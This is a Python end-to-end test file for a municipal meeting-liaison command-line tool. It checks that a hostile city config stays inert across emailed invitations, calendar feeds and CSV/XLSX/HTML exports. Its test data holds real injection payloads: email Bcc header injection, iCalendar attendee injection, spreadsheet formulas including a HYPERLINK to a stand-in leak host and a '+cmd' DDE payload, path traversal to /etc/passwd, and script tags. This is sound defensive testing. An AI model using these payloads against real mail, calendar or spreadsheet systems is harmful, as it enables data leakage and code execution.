"""A city config written by an attacker, through every output of the real `liaison`
command line (issue 12), end to end: real processes, a real mail sink, a real server.

The hostile values are in series titles, a location, agency, district and person
names: header injection (``會議 Bcc: x@evil.example``), iCalendar property injection
(``X\\r\\nATTENDEE:mailto:evil@evil.example`` written as text, ``;``/``:``/``,``),
spreadsheet formulas (``=HYPERLINK(…)``, ``+cmd|…``, ``@SUM(…)``, ``-2+3``), path
traversal (``../../etc/passwd``) and HTML/script tags.

- With real CR/LF (or another control character) in them, `config check` and
  `config load` refuse the file, each bad value named by file and line, and store
  nothing (``test_robustness.py`` proves one such agency name; here: every field).
- Without them the config loads, and every output keeps them as inert text:
  `kpi --format csv|xlsx|html|json --out`, `agenda show --format text|html|json`,
  the invitations `notify dispatch` sends to `liaison mailsink` (headers, the iTIP part,
  the ``invite.ics`` attachment) and the feed `liaison serve` serves for a token made by
  `feeds create`. ICS parses (icalendar and ical), lines are folded at ≤ 75 octets,
  SUMMARY/LOCATION hold the text exactly, and no attendee or property is added; CSV
  cells that start like a formula get a leading ``'``, xlsx cells are text (no
  formula anywhere in the workbook); HTML is escaped; file names come from the
  operator's ``--out`` and the Message-ID only; nothing is written outside the
  chosen folders.

`liaison serve` has no ``--now``: it reads the system clock, so the feed's meetings
are generated (with the injected ``--now``) around the real day — what the server
shows is a window around it.
"""

from __future__ import annotations

import csv
import io
import json
import os
import re
import subprocess
import zipfile
from collections.abc import Callable, Iterator
from datetime import date, timedelta
from email import message_from_bytes, policy
from email.message import EmailMessage
from pathlib import Path

import httpx
import openpyxl
import pytest

from meetings.kernel.cells import FORMULA_PREFIXES
from scheduler.clock import FixedClock
from tests.conftest import REPO, write
from tests.support.feeds import check_ics
from tests.support.processes import LIAISON, free_port, run, wait_for

TITLE = (
    "會議 Bcc: x@evil.example X\\r\\nATTENDEE:mailto:evil@evil.example;RSVP=TRUE "
    '<script>alert("t")</script> ../../etc/passwd ' + "兒少保護網絡會議" * 6
)
LOCATION = "X\\nATTENDEE;CN=evil:mailto:evil@evil.example;, 市府大樓 <b>8樓</b> ../../etc/passwd"
FORMULAS = {
    "f1": '=HYPERLINK("http://evil.example/?leak","點我")',
    "f2": "+cmd|' /C calc'!A0",
    "f3": "@SUM(A1:A9)",
}
AGENCY_NAMES = {
    "DVPC": '=HYPERLINK("http://evil.example/","家防中心")',
    "POL": "+cmd|' /C calc'!A0",
    "EDU": "@SUM(1+1)*cmd",
    "HEALTH": '-2+3 <script>alert("a")</script>',
}
PERSON = '陳社工", CN=evil;ROLE=CHAIR:mailto:evil@evil.example'
DISTRICTS = ("=1+1區", "../../etc/passwd")


def _q(text: str) -> str:
    """A YAML single-quoted scalar: backslashes stay backslashes (no control character)."""
    return "'" + text.replace("'", "''") + "'"


def hostile_config(
    title: str = TITLE, location: str = LOCATION, quote: Callable[[str], str] = _q
) -> str:
    q = quote  # how values are written: single-quoted here, double-quoted with real CR/LF
    lines = [
        "city: 測試市",
        "domain: liaison.test.example",
        "agencies:",
        *(
            f"  - {{code: {code}, name: {q(name)}, emails: [{code.lower()}@example.org]}}"
            for code, name in AGENCY_NAMES.items()
        ),
        "districts:",
        f"  - {{name: {q(DISTRICTS[0])}, code: jia}}",
        f"  - {{name: {q(DISTRICTS[1])}, code: yi}}",
        "people:",
        f"  - {{email: chen@example.org, name: {q(PERSON)}, agency: DVPC, roles: [secretariat]}}",
        "series:",
        "  - id: cp",
        f"    title: {q(title)}",
        "    organizer: DVPC",
        "    cadence: 每月召開1次",
        '    time: "14:00"',
        f"    location: {q(location)}",
        "    invite: {required: [DVPC, POL], optional: [EDU], people: [chen@example.org]}",
    ]
    for sid, t in FORMULAS.items():
        lines += [
            f"  - id: {sid}",
            f"    title: {q(t)}",
            "    organizer: POL",
            "    cadence: 每月召開1次",
            '    time: "10:00"',
            "    invite: {required: [POL, HEALTH, EDU]}",
        ]
    lines += [
        "  - id: dl",
        "    title: '-{district}區級聯繫會議'",
        "    per_district: true",
        "    organizer: HEALTH",
        "    cadence: 每季召開1次",
        '    time: "09:30"',
        "    invite: {required: [HEALTH, POL]}",
    ]
    return "\n".join(lines) + "\n"


INVITED = {f"{c.lower()}@example.org" for c in AGENCY_NAMES} | {"chen@example.org"}
EVIL = ("evil.example", "evil@")  # no address of the attacker's may become a recipient


def _dq(text: str) -> str:
    """A YAML double-quoted scalar whose escapes make CR and LF real control characters."""
    escaped = text.replace("\\", "\\\\").replace('"', '\\"')
    return '"' + escaped.replace("\r", "\\r").replace("\n", "\\n") + '"'


@pytest.fixture
def env(db_url: str, tmp_path: Path) -> dict[str, str]:
    return {
        **os.environ,
        "LIAISON_DATABASE_URL": db_url,
        "LIAISON_BASE_URL": "https://liaison.test.example",
        "PYTHONPATH": str(REPO),
        "PYTHONUNBUFFERED": "1",
    }


def tree(root: Path) -> set[str]:
    return {str(p.relative_to(root)) for p in root.rglob("*")}


def ok(res: subprocess.CompletedProcess[str]) -> subprocess.CompletedProcess[str]:
    assert res.returncode == 0, (res.args, res.stdout[-500:], res.stderr[-500:])
    assert "Traceback" not in res.stderr
    return res


@pytest.fixture
def processes() -> Iterator[list[subprocess.Popen[str]]]:
    """Long-running `liaison` processes, stopped when the test ends."""
    procs: list[subprocess.Popen[str]] = []
    yield procs
    for p in procs:
        p.terminate()
    for p in procs:
        try:
            p.wait(timeout=15)
        except subprocess.TimeoutExpired:
            p.kill()
            p.wait(timeout=10)


def start(
    procs: list[subprocess.Popen[str]], env: dict[str, str], cwd: Path, *args: str
) -> subprocess.Popen[str]:
    p = subprocess.Popen(
        [*LIAISON, *args],
        env=env,
        cwd=cwd,
        stdout=subprocess.DEVNULL,
        stderr=subprocess.PIPE,
        text=True,
    )
    procs.append(p)
    return p


def listening(port: int) -> bool:
    import socket

    with socket.socket() as s:
        return s.connect_ex(("127.0.0.1", port)) == 0


# --- the checks, one per kind of output --------------------------------------------------


def assert_not_a_formula(text: str, where: object) -> None:
    assert not text.startswith(FORMULA_PREFIXES), (where, text)


def check_csv(data: str) -> None:
    cells = [c for row in csv.reader(io.StringIO(data)) for c in row]
    for cell in cells:
        assert_not_a_formula(cell, "csv")
    assert "'" + DISTRICTS[0] in cells  # the district column, neutralised as documented
    assert DISTRICTS[1] in cells  # text that is no formula is left alone


def check_xlsx(path: Path) -> None:
    with zipfile.ZipFile(path) as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/"):
                xml = z.read(name)
                assert b"<f>" not in xml and b"<f " not in xml, name  # no formula at all
    wb = openpyxl.load_workbook(path)
    texts: list[str] = []
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if isinstance(cell.value, str) and cell.value.startswith(FORMULA_PREFIXES):
                    assert cell.data_type == "s" and cell.quotePrefix, (ws.title, cell.value)
                    texts.append(cell.value)
    # every hostile title and agency name reached the workbook, as text (kept as written)
    for value in (*FORMULAS.values(), *AGENCY_NAMES.values()):
        assert any(value in t for t in texts), value


def check_html(html: str, *, shown: bool = True) -> None:
    """No tag of the config's in the page; ``shown``: its script tag is there, escaped."""
    low = html.lower()
    assert "<script" not in low and "<b>8樓" not in low, html[:200]
    assert not shown or "&lt;script&gt;" in html


def check_ics_text(data: bytes, *, itip: bool) -> set[str]:
    """Parses strictly, every line ≤ 75 octets, the text kept in its property, nothing
    added; the SUMMARYs."""
    cal = check_ics(data)
    text = data.decode("utf-8")
    unfolded = text.replace("\r\n ", "")
    for line in unfolded.split("\r\n"):
        # an injected property would start a line: every content line is one of ours
        assert not line.upper().startswith(("BCC", "X-INJECTED")), line
    events = list(cal.walk("VEVENT"))
    assert events
    for ev in events:
        summary, location = str(ev["SUMMARY"]), str(ev.get("LOCATION", ""))
        assert summary in {TITLE, *FORMULAS.values()} or summary.endswith("區級聯繫會議"), summary
        if summary == TITLE:
            assert location == LOCATION  # backslashes and ;:, escaped, not interpreted
        attendees = ev.get("ATTENDEE") or []
        attendees = attendees if isinstance(attendees, list) else [attendees]
        addresses = {str(a).lower().removeprefix("mailto:") for a in attendees}
        if itip:
            assert addresses and addresses <= INVITED, addresses
        else:
            assert not addresses  # a feed names no attendee
        organizer = str(ev["ORGANIZER"]).lower()
        assert not any(e in organizer for e in EVIL), organizer
        for a in attendees:
            cn = str(a.params.get("CN", ""))
            assert not any(e in str(a).lower() for e in EVIL), (str(a), cn)
    for line in unfolded.split("\r\n"):  # the attacker's address only inside text
        if any(e in line for e in EVIL):
            assert line.startswith(("SUMMARY", "LOCATION", "ATTENDEE;CN=", "ORGANIZER;CN=")), line
            if line.startswith(("ATTENDEE", "ORGANIZER")):
                params, _, address = line.rpartition(":mailto:")
                assert address in INVITED and params.count('"') == 2, line  # a quoted CN
    return {str(ev["SUMMARY"]) for ev in events}


def check_mail(raw: bytes) -> EmailMessage:
    msg = message_from_bytes(raw, policy=policy.default)
    assert isinstance(msg, EmailMessage)
    head = raw.split(b"\r\n\r\n", 1)[0].replace(b"\r\n", b"\n").split(b"\n")
    names = {line.split(b":", 1)[0].lower() for line in head if line[:1] not in b" \t"}
    assert b"bcc" not in names and b"cc" not in names, names
    assert len(msg.get_all("Subject") or []) == 1
    subject = str(msg["Subject"])
    assert "\r" not in subject and "\n" not in subject
    to = {a.addr_spec.lower() for a in msg["To"].addresses}  # type: ignore[attr-defined]
    assert to and to <= INVITED, to
    return msg


# --- the test ----------------------------------------------------------------------------


def test_control_characters_anywhere_in_the_config_are_refused_and_nothing_stored(
    env: dict[str, str], tmp_path: Path
) -> None:
    text = hostile_config(
        title="會議\r\nBcc: x@evil.example",
        location="X\r\nATTENDEE:mailto:evil@evil.example",
        quote=_dq,
    ).replace(_dq(AGENCY_NAMES["EDU"]), _dq("教育局\nBcc: x@evil.example"))
    bad = write(tmp_path / "cfg" / "city.yaml", text)
    for command in ("check", "load"):
        res = run(env, "config", command, str(bad))
        assert res.returncode == 2, res.stdout + res.stderr
        lines = res.stderr.strip().splitlines()
        assert all(re.match(rf"{re.escape(str(bad))}:\d+: ", line) for line in lines), lines
        fields = {line.split(": ")[1] for line in lines}
        assert {"agencies[2].name", "series[0].title", "series[0].location"} <= fields, lines
        assert all("control character U+000" in line for line in lines), lines
        assert "Traceback" not in res.stderr and "evil" not in res.stdout
    assert "no meetings" in run(env, "schedule", "list").stdout
    assert json.loads(ok(run(env, "series", "list", "--json")).stdout) == []


def test_hostile_config_values_stay_inert_text_in_every_output(
    env: dict[str, str],
    tmp_path: Path,
    clock: FixedClock,
    processes: list[subprocess.Popen[str]],
) -> None:
    now = clock.now().isoformat()  # 2023-01-01T09:00+08:00: every command gets --now
    cfg = write(tmp_path / "cfg" / "city.yaml", hostile_config())
    work = tmp_path / "work"  # the commands' working directory
    out = tmp_path / "out"  # the one folder the operator names for output
    work.mkdir()
    # This test's session folder (only this test writes there while it runs; the folder
    # above it is shared with other pytest sessions, which add and prune their own).
    parents = set(os.listdir(tmp_path.parent))
    smtp_port, web_port = free_port(), free_port()
    env = {**env, "LIAISON_SMTP_URL": f"smtp://127.0.0.1:{smtp_port}"}

    def cmd(*args: str) -> subprocess.CompletedProcess[str]:
        return ok(run(env, *args, cwd=work))

    cmd("config", "load", str(cfg), "--now", now)
    cmd("schedule", "generate", "--from", "2023-01-01", "--to", "2023-03-31", "--now", now)
    titles = {s["id"]: s["title"] for s in json.loads(cmd("series", "list", "--json").stdout)}
    assert titles == {"cp": TITLE, **FORMULAS, "dl": "-{district}區級聯繫會議"}

    # Mail: the invitations of January, sent by `notify dispatch` to `liaison mailsink`.
    start(processes, env, work, "mailsink", "--port", str(smtp_port), "--dir", str(out / "mail"))
    start(processes, env, work, "serve", "--port", str(web_port))
    assert wait_for(lambda: listening(smtp_port), 20), "mail sink did not start"
    sent = json.loads(cmd("notify", "dispatch", "--now", "2023-01-02T09:00", "--json").stdout)
    assert sent["sent"] > 0 and sent["failed"] == 0, sent
    assert wait_for(lambda: len(list((out / "mail").glob("*.eml"))) == sent["sent"], 20)
    emls = sorted((out / "mail").glob("*.eml"))
    for eml in emls:  # named by sequence and Message-ID only (hex digest and domain)
        assert re.fullmatch(
            r"\d{6}-liaison\.[a-z_]+\.\d+\.[0-9a-f]{24}_liaison\.test\.example\.eml", eml.name
        ), eml.name
    seen_cp = False
    for eml in emls:
        msg = check_mail(eml.read_bytes())
        for part in msg.walk():
            if part.get_content_type() == "text/html":
                check_html(part.get_content(), shown=False)  # type: ignore[attr-defined]
            if part.get_content_type() == "text/calendar":
                filename = part.get_filename()
                assert filename in (None, "invite.ics"), filename
                payload = part.get_payload(decode=True)
                assert isinstance(payload, bytes)
                seen_cp = seen_cp or TITLE in check_ics_text(payload, itip=True)
    assert seen_cp, "an invitation of the hostile series was sent"

    # Exports: every --format of `kpi` to files the operator names, and `agenda show`.
    files = {fmt: out / f"kpi.{fmt}" for fmt in ("csv", "xlsx", "html", "json")}
    for fmt, path in files.items():
        assert cmd("kpi", "--year", "112", "--format", fmt, "--out", str(path)).stdout == (
            f"wrote {path}\n"
        )
    check_csv(files["csv"].read_text(encoding="utf-8"))
    check_xlsx(files["xlsx"])
    check_html(files["html"].read_text(encoding="utf-8"))
    report = json.loads(files["json"].read_text(encoding="utf-8"))
    assert {r["district"] for r in report["rows"] if r["series"] == "dl"} == set(DISTRICTS)
    uid = "cp-20230111@liaison.test.example"
    check_html(cmd("agenda", "show", uid, "--format", "html", "--now", now).stdout)
    agenda = json.loads(cmd("agenda", "show", uid, "--format", "json", "--now", now).stdout)
    assert agenda["meeting"]["title"] == TITLE  # the text as written, nothing interpreted
    text = cmd("agenda", "show", uid, "--now", now).stdout
    assert "\r" not in text and not any(
        line.upper().startswith(("BCC:", "ATTENDEE")) for line in text.splitlines()
    )

    # The feed `liaison serve` serves (system clock: meetings around the real day).
    today = date.today()
    window = ["--from", str(today - timedelta(days=40)), "--to", str(today + timedelta(days=100))]
    cmd("schedule", "generate", *window, "--now", now)
    feed = json.loads(cmd("feeds", "create", "--agency", "POL", "--json").stdout)
    assert wait_for(lambda: listening(web_port), 30), "liaison serve did not start"
    token_path = feed["url"].split("/feeds/", 1)[1]
    r = httpx.get(f"http://127.0.0.1:{web_port}/feeds/{token_path}", timeout=15)
    assert r.status_code == 200, r.text[:300]
    assert "attachment" not in r.headers.get("content-disposition", "")
    assert TITLE in check_ics_text(r.content, itip=False)

    # Nothing written outside the chosen folders, nothing named after the config.
    written = tree(out)
    assert written == {"mail", *(f"mail/{e.name}" for e in emls), *(p.name for p in files.values())}
    assert tree(work) == set(), tree(work)  # relative paths would have landed here
    assert set(os.listdir(tmp_path.parent)) == parents
    assert not any("passwd" in p or "HYPERLINK" in p for p in tree(tmp_path)), tree(tmp_path)
